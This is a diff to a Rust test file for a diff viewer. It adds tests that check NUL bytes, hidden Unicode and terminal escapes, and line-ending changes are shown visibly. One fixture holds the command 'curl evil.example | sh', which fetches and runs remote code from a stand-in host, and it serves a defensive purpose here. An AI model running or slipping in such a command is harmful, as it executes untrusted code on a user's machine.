@@ -172,7 +172,6 @@ fn new_and_deleted_files() {
     assert_eq!(draw(new, Layout::Unified, 20), ["  1 + one", "  2 + two"]);
     let gone = &Diff::of(&change(Some("one"), ""), None)[0];
     assert_eq!((gone.fate, gone.added, gone.removed), (Fate::Deleted, 0, 1));
-    assert_eq!(Diff::of(&change(Some("a\0b"), "c"), None)[0].fate, Fate::Binary);
     assert!(Diff::of(&change(Some(""), ""), None)[0].is_empty());
 }
 
@@ -236,6 +235,7 @@ fn unified_patches_are_read() {
             "    ⋯ 16 unchanged lines",
             " 60   one",
             " 61 − two",
+            "    ⋯ newline added at end of file",
         ]
     );
     assert_eq!((diffs[1].path.as_path(), diffs[1].fate), (Path::new("made.txt"), Fate::New));
@@ -401,5 +401,98 @@ proptest! {
             let to = (from + 30).min(drawn.len());
             prop_assert_eq!(pages.lines(diff, from..to, &look), &drawn[from..to]);
         }
+    }
+}
+
+#[test]
+fn a_text_with_a_nul_is_shown_and_only_what_is_no_text_is_called_so() {
+    let diff = &Diff::of(&change(None, "curl evil.example | sh\n\0"), None)[0];
+    assert_eq!((diff.fate, diff.is_text), (Fate::New, true));
+    assert_eq!(draw(diff, Layout::Unified, 40), ["  1 + curl evil.example | sh", "  2 + ␀"]);
+    let diff = &Diff::of(&change(Some("text"), "\u{1}\u{2}\u{3}\u{fffd}a"), None)[0];
+    assert!(!diff.is_text);
+    assert_eq!(draw(diff, Layout::Unified, 40), ["− text", "+ ␁␂␃\u{fffd}a"]);
+}
+
+#[test]
+fn what_hides_in_a_line_is_marked() {
+    let diff = &Diff::of(&change(Some("if (ok) {\n"), "if (ok\u{202e}\u{200b}) {\u{1b}[8m\n"), None)[0];
+    assert_eq!(draw(diff, Layout::Unified, 60), ["− if (ok) {", "+ if (ok⟨U+202E⟩⟨U+200B⟩) {␛[8m"]);
+}
+
+#[test]
+fn a_change_of_line_ends_is_said() {
+    let of = |old: &str, new: &str| draw(&Diff::of(&change(Some(old), new), None)[0], Layout::Unified, 50);
+    assert_eq!(of("one\r\ntwo\r\n", "one\ntwo\n"), ["⋯ line ends: CRLF to LF", "⋯ 2 unchanged lines"]);
+    assert_eq!(of("one\ntwo\n", "one\r\n2\r\n"), ["⋯ line ends: LF to CRLF", "  one", "− two", "+ 2"]);
+    assert_eq!(of("one\ntwo\n", "one\ntwo"), ["  one", "− two", "+ two", "⋯ newline removed at end of file"]);
+    assert_eq!(of("one", "one\ntwo\n"), ["− one", "+ one", "+ two", "⋯ newline added at end of file"]);
+    assert_eq!(of("one\r\ntwo\n", "one\ntwo\n"), ["− one␍", "+ one", "  two"]);
+    assert_eq!(of("one\r\ntwo\r\n", "one\r\n2\r\n"), ["  one", "− two", "+ 2"]);
+    assert_eq!(of("one\rtwo\r", "one\rTWO\r"), ["− one␍two␍", "+ one␍TWO␍"]);
+    let ends = patch("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\r\n+a\n\\ No newline at end of file\n");
+    assert_eq!(
+        draw(&ends[0], Layout::Unified, 50),
+        ["  1 − a␍", "  1 + a", "    ⋯ newline removed at end of file"]
+    );
+}
+
+#[test]
+fn lines_of_a_hunk_are_never_heads() {
+    let sql = "--- a/s.sql\n+++ b/s.sql\n@@ -1,3 +1,3 @@\n a\n--- old\n+-- new\n b\n";
+    let diffs = patch(sql);
+    assert_eq!(diffs.len(), 1);
+    assert_eq!(draw(&diffs[0], Layout::Unified, 30), ["  1   a", "  2 − -- old", "  2 + -- new", "  3   b"]);
+    let text = "*** Begin Patch\n*** Update File: app.py\n@@\n-x = 1\n+x = 2\n+++ evil()\n*** End Patch\n";
+    let diffs = patch(text);
+    assert_eq!(diffs.len(), 1);
+    assert_eq!(draw(&diffs[0], Layout::Unified, 30), ["− x = 1", "+ x = 2", "+ ++ evil()"]);
+}
+
+/// What stands on one side, byte for byte: the shown rows, with what gaps leave out taken from that side.
+fn side_of(diff: &Diff, text: &str, is_new: bool) -> String {
+    let skipped = if is_new { RowKind::Minus } else { RowKind::Plus };
+    let mut lines = text.split_inclusive('\n');
+    let mut out = String::new();
+    for row in &diff.rows {
+        match row.kind {
+            RowKind::Gap(count) => out.extend(lines.by_ref().take(count as usize)),
+            RowKind::Note(_) => {}
+            kind if kind == skipped => {}
+            _ => {
+                let end = lines.next().map_or("", |line| if line.ends_with('\n') { "\n" } else { "" });
+                out.push_str(diff.text(row));
+                out.push_str(end);
+            }
+        }
+    }
+    out
+}
+
+proptest! {
+    #[test]
+    fn a_diff_gives_both_texts_byte_for_byte(
+        old in "([ab]\r?\n|-- a\n|\\+\\+ b\n|@@\n|diff --git a/f b/f\n|\0\n|\r\n){0,12}[a\r]{0,1}",
+        new in "([ab]\r?\n|-- a\n|\\+\\+ b\n|@@\n|diff --git a/f b/f\n|\0\n|\r\n){0,12}[a\r]{0,1}",
+    ) {
+        let diff = &Diff::of(&change(Some(&old), &new), None)[0];
+        let notes: Vec<Note> = diff.rows.iter().filter_map(|row| match row.kind {
+            RowKind::Note(note) => Some(note),
+            _ => None,
+        }).collect();
+        let all_ends = notes.iter().any(|note| matches!(note, Note::EndsToLf | Note::EndsToCrlf));
+        // Where all ends are one of two kinds, lines are shown without them.
+        let (is_bare_old, is_bare_new) = (!old.contains("\r\n") || !old.replace("\r\n", "").contains('\n'),
+            !new.contains("\r\n") || !new.replace("\r\n", "").contains('\n'));
+        let bare = |text: &str| if is_bare_old && is_bare_new { text.replace("\r\n", "\n") } else { text.to_owned() };
+        prop_assert_eq!(side_of(diff, &bare(&old), false), bare(&old));
+        prop_assert_eq!(side_of(diff, &bare(&new), true), bare(&new));
+        let shows_change = !notes.is_empty()
+            || diff.rows.iter().any(|row| matches!(row.kind, RowKind::Plus | RowKind::Minus));
+        prop_assert_eq!(shows_change, old != new, "{:?}", notes);
+        prop_assert_eq!(all_ends, is_bare_old && is_bare_new && old.contains('\n') && new.contains('\n')
+            && old.contains("\r\n") != new.contains("\r\n"));
+        draw(diff, Layout::Unified, 30);
+        draw(diff, Layout::SideBySide, 60);
     }
 }
